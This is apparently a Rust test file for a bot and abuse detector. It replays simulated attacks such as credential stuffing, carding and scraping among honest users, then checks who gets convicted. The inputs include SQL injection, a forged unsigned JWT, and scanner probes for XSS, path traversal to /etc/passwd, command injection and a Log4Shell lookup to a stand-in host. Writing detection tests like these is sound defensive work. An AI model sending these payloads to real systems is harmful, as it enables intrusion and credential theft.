//! Each class of abuse, from packets to the verdict: who is convicted, and whether the reasons tell an analyst why.
//!
//! The classes are those of the contract (`verdicts.ndjson`). In every scene people and phones use the site as it is meant; none of
//! them may be accused.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, clippy::print_stderr)]

mod common;
#[path = "common/scene.rs"]
mod scene;

use scene::{Scene, bad, get, honest, judge, post};
use serde_json::Value;

/// Plays an attack among honest people. At least `least` of its addresses must be convicted of `class` and of nothing else, each with
/// reasons of two pillars (or a proof) that say what was seen and what is usual; a campaign must tell the same, and each of `told`
/// must stand in its reasons.
fn found(class: &str, least: usize, told: &[&str], attack: impl FnOnce(&mut Scene)) {
    let mut scene = Scene::new();
    attack(&mut scene);
    let said = judge(scene);
    let hit = said.convicted.get(class).map_or(0, Vec::len);
    assert!(hit >= least, "{hit} of {least} convicted of {class}: {:?}", said.convicted);
    let others: Vec<&String> = said.convicted.keys().filter(|c| *c != class).collect();
    assert!(others.is_empty(), "{class} is also called {others:?}");
    for verdict in said.verdicts.iter().filter(|v| v["intent"] == "malicious") {
        let reasons = verdict["reasons"].as_array().unwrap();
        assert!(!reasons.is_empty() && reasons.iter().all(is_told), "{reasons:#?}");
        assert!(verdict["score"].as_u64().unwrap() >= 75, "{verdict:#}");
        assert!(!verdict["oat"].as_array().unwrap().is_empty(), "{verdict:#}");
    }
    let campaign = said.campaigns.iter().find(|c| c["class"] == class).expect("no campaign");
    let reasons: Vec<&str> =
        campaign["reasons"].as_array().unwrap().iter().map(|r| r["observed"].as_str().unwrap()).collect();
    if std::env::var_os("SIDETAP_SHOW_REASONS").is_some() {
        println!("{class}: {}", serde_json::to_string_pretty(&campaign["reasons"]).unwrap());
    }
    for words in told {
        assert!(reasons.iter().any(|r| r.contains(words)), "{class}: nothing says {words:?} of {reasons:#?}");
    }
    assert!(campaign["signature"]["story"].as_str().unwrap().len() > 40, "{campaign:#}");
}

/// A reason says in words what was seen, with the value, and what it was held against.
fn is_told(reason: &Value) -> bool {
    let text = |key: &str| reason[key].as_str().unwrap_or_default().to_owned();
    let observed = text("observed");
    observed.contains(" (") && observed.ends_with(')') && observed.len() > 20 && !text("indicator").is_empty()
}

fn login(user: impl std::fmt::Display, password: impl std::fmt::Display) -> scene::Ask {
    post("/api/login", format!("{{\"username\": \"{user}\", \"password\": \"{password}\"}}"))
}

#[test]
fn credential_stuffing() {
    found(
        "credential-stuffing",
        118,
        &["Logins of one fingerprint fail far more often", "Many accounts are tried"],
        |s| {
            for n in 0..120 {
                let status = if n % 40 == 39 { 200 } else { 401 };
                let ask = login(format!("victim{n}"), format!("leaked{n}")).status(status);
                s.at(100_000 + n * 900, &bad(n), &ask.script());
            }
        },
    );
}

#[test]
fn credential_cracking() {
    found("credential-cracking", 1, &["Many passwords for few accounts"], |s| {
        for n in 0..60 {
            s.at(100_000 + n * 400, &bad(1), &login("boss", format!("guess{n}")).status(401).script());
        }
    });
}

#[test]
fn ato_transfer_fraud() {
    found("ato-transfer-fraud", 9, &[], |s| {
        for n in 0..10 {
            let (t, token) = (100_000 + n * 9_000, format!("00000000000000001111{n:04}"));
            s.at(t, &bad(n), &login(format!("phone{n}"), format!("right{n}")).script());
            s.at(t + 1_000, &bad(n), &get("/api/accounts").bearer(&token).script());
            let pay = post("/api/transfer", "{\"to\": \"mule\", \"amount\": 900}");
            s.at(t + 2_000, &bad(n), &pay.bearer(&token).script());
        }
    });
}

#[test]
fn account_takeover() {
    found("account-takeover", 1, &["An unsigned JWT was presented"], |s| {
        let token = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.";
        s.at(100_000, &bad(1), &get("/api/accounts").bearer(token).script());
    });
}

#[test]
fn fake_account_creation() {
    found("fake-account-creation", 18, &[], |s| {
        for n in 0..60 {
            let body =
                format!("{{\"email\": \"made{n}77@mail.test\", \"password\": \"x{n}\", \"name\": \"A\"}}");
            s.at(100_000 + n * 2_000, &bad(n / 3), &post("/api/signup", body).status(201).script());
        }
    });
}

#[test]
fn content_scraping() {
    found("content-scraping", 1, &[], |s| {
        for n in 0..80 {
            s.at(100_000 + n * 700, &bad(1), &get(format!("/items/{}", 1000 + n)).page().script());
        }
    });
}

#[test]
fn api_scraping() {
    found("api-scraping", 6, &[], |s| {
        for n in 0..120 {
            s.at(100_000 + n * 600, &bad(n % 6), &get(format!("/api/articles/{}", 1000 + n)).script());
        }
        for n in 0..30 {
            s.at(60_000 + n * 9_000, &honest(n), &get(format!("/api/articles/{}", 2000 + n)).chrome());
        }
    });
}

#[test]
fn inventory_scraping() {
    found("inventory-scraping", 70, &[], |s| {
        for n in 0..150 {
            let ask = get(format!("/api/stock?sku=7&zip={:05}", n * 613));
            s.at(100_000 + n * 600, &bad(n / 2), &ask.script());
        }
    });
}

#[test]
fn price_scraping() {
    found("price-scraping", 7, &[], |s| {
        for n in 0..80 {
            s.at(100_000 + n * 600, &bad(n % 8), &get(format!("/api/price?sku={}", 1000 + n)).script());
        }
        for n in 0..30 {
            s.at(60_000 + n * 9_000, &honest(n), &get(format!("/api/price?sku={n}")).chrome());
        }
    });
}

const ROBOTS: &str = "User-agent: GPTBot\nDisallow: /\n\nUser-agent: *\nDisallow: /api/\n";

#[test]
fn ai_crawler() {
    let agent = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)";
    found("ai-crawler", 1, &[], |s| {
        s.at(10_000, &bad(2), &get("/robots.txt").plain(ROBOTS).named(agent));
        for n in 0..60 {
            s.at(20_000 + n * 2_000, &bad(2), &get(format!("/items/{}", 1000 + n)).page().named(agent));
        }
    });
}

#[test]
fn fake_crawler() {
    let agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    found("fake-crawler", 1, &[], |s| {
        for n in 0..60 {
            s.at(20_000 + n * 2_000, &bad(1), &get(format!("/items/{}", 1000 + n)).page().named(agent));
        }
    });
}

#[test]
fn id_enumeration() {
    found("id-enumeration", 18, &[], |s| {
        for n in 0..120u32 {
            let ask = get(format!("/api/meetings/{}", 100_000 + n.wrapping_mul(7919) % 900_000)).status(404);
            s.at(100_000 + n * 500, &bad(n % 20), &ask.script());
        }
    });
}

#[test]
fn giftcard_bruteforce() {
    found("giftcard-bruteforce", 9, &[], |s| {
        for n in 0..90u32 {
            let code = n.wrapping_mul(2_654_435_761) % 100_000_000;
            s.at(
                100_000 + n * 800,
                &bad(n % 9),
                &get(format!("/api/giftcards/GC{code:08}")).status(404).script(),
            );
        }
    });
}

#[test]
fn coupon_abuse() {
    found("coupon-abuse", 1, &[], |s| {
        for n in 0..40 {
            let ask = post("/api/coupon/apply", format!("{{\"coupon\": \"SAVE{n}\"}}")).status(404);
            s.at(100_000 + n * 900, &bad(1), &ask.script());
        }
    });
}

#[test]
fn token_cracking() {
    found("token-cracking", 1, &[], |s| {
        for n in 0..40 {
            let ask = post("/api/otp/verify", format!("{{\"challenge\": \"c-1\", \"code\": \"{n:06}\"}}"));
            s.at(100_000 + n * 2_000, &bad(1), &ask.status(403).script());
        }
    });
}

#[test]
fn hype_sale_bot() {
    found("hype-sale-bot", 8, &[], |s| {
        for n in 0..120 {
            let ask = post("/api/cart", "{\"sku\": \"drop-1\"}").status(if n > 100 { 201 } else { 403 });
            s.at(200_000 + n * 60, &bad(n % 8), &ask.script());
        }
    });
}

#[test]
fn inventory_hoarding() {
    found("inventory-hoarding", 3, &[], |s| {
        for n in 0..60 {
            s.at(
                20_000 + n * 12_000,
                &bad(n % 3),
                &post("/api/cart", format!("{{\"sku\": \"{}\"}}", n % 30)).script(),
            );
        }
    });
}

#[test]
fn sim_swap_abuse() {
    found("sim-swap-abuse", 1, &[], |s| {
        for n in 0..10 {
            for i in 0..2 {
                let ask = post("/api/sim/swap", format!("{{\"msisdn\":\"1555{n}{i}\"}}"));
                s.at(70_000 + n * 9_000 + i * 30_000, &honest(n), &ask.chrome());
            }
        }
        for n in 0..25 {
            let ask = post("/api/sim/swap", format!("{{\"msisdn\": \"1666{n:04}\"}}"));
            s.at(100_000 + n * 4_000, &bad(1), &ask.script());
        }
    });
}

#[test]
fn password_reset_enumeration() {
    found("password-reset-enumeration", 9, &[], |s| {
        for n in 0..60 {
            let ask = post("/api/password-reset", format!("{{\"email\": \"user{n}@mail.test\"}}"));
            s.at(100_000 + n * 1_500, &bad(n / 6), &ask.status(if n % 4 == 0 { 200 } else { 404 }).script());
        }
    });
}

#[test]
fn otp_abuse() {
    found("otp-abuse", 3, &[], |s| {
        for n in 0..60 {
            let ask = post("/api/otp", format!("{{\"phone\": \"+1555000{n:04}\"}}"));
            s.at(100_000 + n * 1_000, &bad(n % 3), &ask.script());
        }
    });
}

#[test]
fn bola() {
    found("bola", 1, &[], |s| {
        for n in 0..60 {
            let ask = get(format!("/api/orders/{}", 72_000 + n)).bearer("aaaaaaaaaaaaaaaabbbbbbbbbbbb");
            s.at(100_000 + n * 2_000, &bad(1), &ask.chrome());
        }
    });
}

#[test]
fn sqli() {
    found("sqli", 1, &[], |s| {
        for n in 0..30 {
            let ask = get(format!(
                "/api/search?q=shoe%27%20UNION%20SELECT%20{n},user,password%20FROM%20users--%20"
            ));
            s.at(100_000 + n * 300, &bad(1), &ask.script());
        }
    });
}

#[test]
fn vuln_scan() {
    let probes = [
        "/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/search?q=../../../../etc/passwd",
        "/api/search?q=%24%7Bjndi:ldap://x.example/a%7D",
        "/api/search?q=;cat%20/etc/passwd",
        "/.git/config",
        "/wp-login.php",
    ];
    found("vuln-scan", 1, &[], |s| {
        for (n, probe) in (0u32..).zip(probes.iter().cycle().take(30)) {
            let status = if probe.starts_with("/api") { 200 } else { 404 };
            s.at(100_000 + n * 300, &bad(1), &get(*probe).status(status).named("Mozilla/5.00 (Nikto/2.5.0)"));
        }
    });
}

#[test]
fn directory_bruteforce() {
    found("directory-bruteforce", 1, &[], |s| {
        for n in 0..80u32 {
            let word =
                ["admin", "backup", "old", "test", "dev", "console", "private", "stage"][n as usize % 8];
            let ask = get(format!(
                "/{word}{}",
                ["", "s", "_1", ".bak", "-x", "/db", "/new", "2", ".zip", ".old"][n as usize / 8]
            ));
            s.at(100_000 + n * 150, &bad(1), &ask.status(404).named("gobuster/3.6"));
        }
    });
}

#[test]
fn app_dos() {
    found("app-dos", 1, &[], |s| {
        for n in 0..900 {
            s.at(
                100_000 + n * 50,
                &bad(2),
                &get("/api/feed").status(if n > 300 { 429 } else { 200 }).script(),
            );
        }
    });
}

#[test]
fn spam() {
    found("spam", 1, &[], |s| {
        for n in 0..30 {
            s.at(70_000 + n * 9_000, &honest(n), &post("/api/comments", "{\"text\":\"nice\"}").chrome());
        }
        for n in 0..60 {
            let ask = post("/api/comments", format!("{{\"text\": \"buy {n}\", \"id\": {n}}}"));
            s.at(100_000 + n * 1_000, &bad(1), &ask.script());
        }
    });
}

#[test]
fn skewing() {
    found("skewing", 1, &[], |s| {
        for n in 0..30 {
            s.at(71_000 + n * 9_000, &honest(n), &post("/api/vote", "{\"up\":true}").chrome());
        }
        for n in 0..60 {
            s.at(100_500 + n * 1_000, &bad(2), &post("/api/vote", "{\"up\": true}").script());
        }
    });
}

#[test]
fn carding() {
    found("carding", 4, &[], |s| {
        for n in 0..40 {
            let body = format!("{{\"card_number\": \"4000{n:012}\", \"amount\": 1}}");
            s.at(100_000 + n * 1_100, &bad(n % 5), &post("/api/payments", body).status(402).script());
        }
    });
}

#[test]
fn cash_out() {
    found("cash-out", 1, &[], |s| {
        for n in 0..40 {
            let body = format!("{{\"to\": \"mule{n}\", \"amount\": 900}}");
            s.at(100_000 + n * 2_000, &bad(1), &post("/api/transfer", body).script());
        }
    });
}
